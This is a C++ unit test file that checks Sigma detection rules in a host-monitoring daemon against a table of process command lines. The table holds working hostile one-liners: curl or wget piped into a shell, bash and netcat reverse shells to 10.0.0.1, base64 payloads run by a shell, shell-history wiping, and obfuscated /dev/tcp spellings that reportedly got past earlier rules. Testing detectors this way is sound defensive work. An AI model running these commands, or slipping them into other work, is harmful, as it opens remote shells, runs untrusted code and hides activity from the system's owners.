// The Sigma rules shipped in daemoneye/rules/sigma/: each loads through the
// guarded engine and, over a real store, raises on the command lines it is
// written for and stays quiet on the ordinary ones beside them.

#include <gtest/gtest.h>

#include <airssys/daemoneye/query_engine.hpp>
#include <airssys/daemoneye/rule.hpp>
#include <airssys/daemoneye/rule_runner.hpp>
#include <airssys/daemoneye/store.hpp>
#include <cstdlib>
#include <ctime>
#include <filesystem>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "store_test_util.hpp"

namespace airssys::daemoneye {
namespace {

namespace fs = std::filesystem;
using test::proc;
using test::TempDir;

fs::path sigma_dir() {
  if (const char* src = std::getenv("AIRSSYS_SOURCE_DIR"); src != nullptr && *src != '\0')
    return fs::path(src) / "daemoneye/rules/sigma";
  return fs::path(__FILE__).parent_path() / "../../rules/sigma";
}

struct Exec {
  std::int64_t pid;
  std::string path;
  std::string cmdline;
};

// pid → the rule titles it must raise (none for the ordinary ones).
const std::vector<std::pair<Exec, std::set<std::string>>> kCases{
    {{101, "/usr/bin/bash", "bash -c curl -fsSL https://x.example/i.sh | sh"}, {"Download piped straight into a shell"}},
    {{102, "/usr/bin/bash", "bash -c wget -qO- http://x.example/a | sudo bash"}, {"Download piped straight into a shell"}},
    {{103, "/usr/bin/curl", "curl -fsSLo /tmp/i.sh https://x.example/i.sh"}, {}},
    {{104, "/usr/bin/bash", "bash -c curl -s https://x.example/v | shasum"}, {}},
    {{111, "/usr/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, {"Shell redirected to a /dev/tcp or /dev/udp socket"}},
    {{112, "/usr/bin/ls", "ls /dev/"}, {}},
    {{121, "/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444"}, {"Netcat told to run a program for its connection"}},
    {{122, "/usr/bin/ncat", "ncat --exec /bin/bash -l 4444"}, {"Netcat told to run a program for its connection"}},
    {{123, "/usr/bin/nc", "nc -zv 10.0.0.1 22"}, {}},
    {{124, "/usr/bin/sync", "sync -e foo"}, {}},
    {{131, "/usr/bin/bash", "bash -c echo ZWNobyBoaQ== | base64 -d | bash"}, {"Base64-decoded text run by a shell"}},
    // "exec /bin/bash -i" base64-encoded, inside a longer command.
    {{132, "/usr/bin/python3", "python3 -c import os;os.system(__import__('base64').b64decode('ZXhlYyAvYmluL2Jhc2ggLWk='))"},
     {"Base64-decoded text run by a shell"}},
    {{133, "/usr/bin/base64", "base64 -d cert.b64"}, {}},
    {{141, "/usr/bin/bash", "bash -c history -c"}, {"Shell history cleared or disabled"}},
    {{142, "/usr/bin/rm", "rm -f /root/.bash_history"}, {"Shell history cleared or disabled"}},
    {{143, "/usr/bin/cat", "cat /root/.bash_history"}, {}},
    {{144, "/usr/bin/rm", "rm -rf /tmp/build"}, {}},
    // Spellings an outside probe (session 14) got past the rules with.
    {{151, "/usr/bin/bash", "bash -c exec 5<>/dev/t\"c\"p/127.0.0.1/47001; while read -r -u 5 l; do eval \"$l\"; done"},
     {"Shell redirected to a /dev/tcp or /dev/udp socket"}},
    {{152, "/usr/bin/bash", "bash -c cat </d'e'v/tc\\p/10.0.0.1/80"}, {"Shell redirected to a /dev/tcp or /dev/udp socket"}},
    {{153, "/usr/bin/bash", "bash -c echo ZWNobyBoaQ== | base64 --dec | sh"}, {"Base64-decoded text run by a shell"}},
    {{154, "/usr/bin/bash", "bash -c echo ZWNobyBoaQ== | base64 -d | /bin/sh"}, {"Base64-decoded text run by a shell"}},
    {{155, "/usr/bin/bash", "bash -c base64 -w0 -di x.b64 |  /usr/bin/env bash"}, {"Base64-decoded text run by a shell"}},
    {{156, "/usr/bin/bash", "bash -c curl -fsSL https://x.example/i | /bin/bash"}, {"Download piped straight into a shell"}},
    {{157, "/usr/bin/bash", "bash -c wget -qO- https://x.example/i | sudo -E /usr/bin/zsh"}, {"Download piped straight into a shell"}},
    {{158, "/usr/bin/bash", "bash -c unset  HISTFILE"}, {"Shell history cleared or disabled"}},
    {{159, "/usr/bin/bash", "bash -c set +o history"}, {"Shell history cleared or disabled"}},
    {{160, "/usr/bin/bash", "bash -c unset\tHISTFILE; id"}, {"Shell history cleared or disabled"}},
    // Ordinary commands beside them.
    {{161, "/usr/bin/bash", "bash -c base64 -d key.b64 | shasum"}, {}},
    {{162, "/usr/bin/bash", "bash -c base64 --decode bundle.b64 | tar -x"}, {}},
    {{163, "/usr/bin/bash", "bash -c curl -s https://x.example/lint.sh | bashate -"}, {}},
    {{164, "/usr/bin/bash", "bash -c curl -s https://x.example/key | sudo tee /etc/apt/keyrings/x.asc"}, {}},
    {{165, "/usr/bin/bash", "bash -c set -o history; set +o vi"}, {}},
    {{166, "/usr/bin/bash", "bash -c echo $HISTFILE; printenv HISTFILESIZE"}, {}},
    {{167, "/usr/bin/ls", "ls -l /dev/tcp"}, {}},
    {{168, "/usr/bin/bash", "bash -c echo ZWNobyBoaQ== | base64 | sh-copy-id"}, {}},
};

TEST(SigmaBundled, EachRuleLoadsAndFindsWhatItIsFor) {
  TempDir tmp;
  auto store = Store::open({.path = tmp / "d.db"});
  ASSERT_TRUE(store) << store.error();
  auto engine = QueryEngine::open(tmp / "d.db");
  ASSERT_TRUE(engine) << engine.error();

  RuleSet set = load_rules(sigma_dir(), engine->get());
  for (const auto& e : set.errors) ADD_FAILURE() << e.message;
  ASSERT_EQ(set.rules.size(), 5u);
  std::set<std::string> ids;
  for (const auto& r : set.rules) {
    ASSERT_TRUE(r.sigma) << r.file;
    EXPECT_TRUE(ids.insert(r.id).second) << "duplicate id " << r.id;
  }

  const std::int64_t now = std::time(nullptr);
  std::vector<ProcessEvent> events;
  for (const auto& [exec, rules] : kCases) {
    ProcessEvent e;
    e.kind = EventKind::exec;
    e.source = EventSource::ebpf;
    e.time = now;
    e.process = proc(exec.pid, exec.path.substr(exec.path.rfind('/') + 1), exec.path, exec.cmdline);
    events.push_back(std::move(e));
  }
  ASSERT_TRUE((*store)->append_events(events));

  RuleRun run = run_rules(set.rules, **engine, "host", now);
  for (const auto& f : run.failures) ADD_FAILURE() << f.rule_id << ": " << f.message;
  std::map<std::int64_t, std::set<std::string>> raised;
  for (const auto& a : run.candidates) {
    const auto at = a.row_json.find("\"pid\":");
    ASSERT_NE(at, std::string::npos) << a.row_json;
    raised[std::stoll(a.row_json.substr(at + 6))].insert(a.rule_name);
  }
  for (const auto& [exec, rules] : kCases) {
    EXPECT_EQ(raised[exec.pid], rules) << exec.pid << ": " << exec.cmdline;
  }
}

}  // namespace
}  // namespace airssys::daemoneye
